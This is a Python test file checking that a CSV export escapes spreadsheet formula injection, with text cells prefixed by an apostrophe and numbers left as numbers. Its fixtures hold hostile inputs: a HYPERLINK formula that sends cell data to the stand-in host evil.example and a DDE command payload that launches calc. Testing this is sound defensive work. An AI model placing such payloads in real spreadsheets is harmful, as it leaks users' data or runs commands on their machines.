"""CSV formula injection: text cells that a spreadsheet would run as a formula are
neutralised, numbers stay numbers, and the notes (the reasons) are exported."""

from __future__ import annotations

import csv
import io

from core.clock import Calendars
from core.config import Config
from storage.db import Database
from tests.workflows.review.builder import Item, write_items
from tests.workflows.review.test_review_metrics import review_of
from workflows.review.format_csv import FORMULA_STARTS, render_csv

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_no_text_cell_starts_with_a_formula_character(database: Database, config: Config) -> None:
    write_items(
        database,
        [
            Item(
                sku=HOSTILE,
                site="+SUM(1,2)",
                kind="override",
                value=-3,
                reason="DATA_ERROR",
                note="@cmd|' /C calc'!A0",
                extra={"customer": "\tTAB", "supplier": "-2+3"},
                actual=-2.5,
            ),
            Item(site="\rCR", note="-- moved to next week", kind="override", value=90),
        ],
    )
    text = render_csv(review_of(database, config), calendars=Calendars(config))
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert len(body) == 2 and "note" in header
    for row in body:
        for value in row:
            try:
                float(value)
            except ValueError:
                assert not value.startswith(FORMULA_STARTS), value
    first = dict(zip(header, body[0], strict=True))
    assert first["sku"] == "'" + HOSTILE and first["site"] == "'+SUM(1,2)"
    assert first["note"] == "@cmd|' /C calc'!A0".join(("'", ""))
    assert first["supplier"] == "'-2+3"
    assert (first["final_value"], first["actual_value"]) == ("-3.0", "-2.5")  # numbers
    second = dict(zip(header, body[1], strict=True))
    assert second["note"] == "'-- moved to next week" and second["site"] == "'\rCR"
